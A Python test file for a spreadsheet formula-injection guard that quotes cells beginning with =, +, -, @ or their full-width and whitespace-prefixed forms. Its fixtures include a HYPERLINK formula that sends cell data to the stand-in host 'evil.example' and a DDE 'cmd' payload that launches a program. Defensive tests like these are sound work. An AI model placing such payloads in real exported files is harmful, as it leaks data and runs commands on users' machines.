"""The spreadsheet guard: every formula trigger gets a quote, everything else stays as it is,
and `unguard` gives back exactly the value that was guarded. The lists here are the cases every
export is checked against (tests/contacts/test_contacts.py, tests/test_audit.py)."""

from __future__ import annotations

import itertools

import pytest

from core.spreadsheet import is_trigger, safe_cell, safe_row, unguard

# Values a spreadsheet would run as a formula: each is written with one quote in front.
FORMULA_CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "-3",
    "@SUM(A1:A2)",
    "+31 20 555 0101",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\rplain after a carriage return",
    " =1+1",
    "   +1",
    "\n-1",
    "\u3000=1+1",  # ideographic space
    "\u00a0@SUM(A1)",  # no-break space
    "\uff1d1+1",  # full-width =
    "\uff0b1",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    " \uff1d1",
    "'=1+1",  # a value that really starts with a quote and a trigger
    "''-2",
    "' =1",
]
# Values written as they are.
PLAIN_CELLS = ["plain", "Ann O'Neil", "'tis", "'", "''", "a=1", "3-2", "1@2", "", " plain"]


@pytest.mark.parametrize("value", FORMULA_CELLS)
def test_a_formula_gets_a_quote_and_comes_back(value: str) -> None:
    assert is_trigger(value.lstrip("'"))
    assert safe_cell(value) == "'" + value
    assert not is_trigger(safe_cell(value))
    assert unguard(safe_cell(value)) == value


@pytest.mark.parametrize("value", PLAIN_CELLS)
def test_other_values_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value
    assert unguard(value) == value


def test_every_short_value_is_safe_and_comes_back() -> None:
    """All strings of up to four characters over the characters that matter."""
    alphabet = ["'", "=", "-", "\uff20", " ", "\t", "\r", "\n", "a", "1"]
    for length in range(5):
        for chars in itertools.product(alphabet, repeat=length):
            value = "".join(chars)
            written = safe_cell(value)
            assert not is_trigger(written), repr(value)
            assert unguard(written) == value, repr(value)


def test_a_row_is_guarded_cell_by_cell() -> None:
    assert safe_row(["=1", "a", "-2"]) == ["'=1", "a", "'-2"]
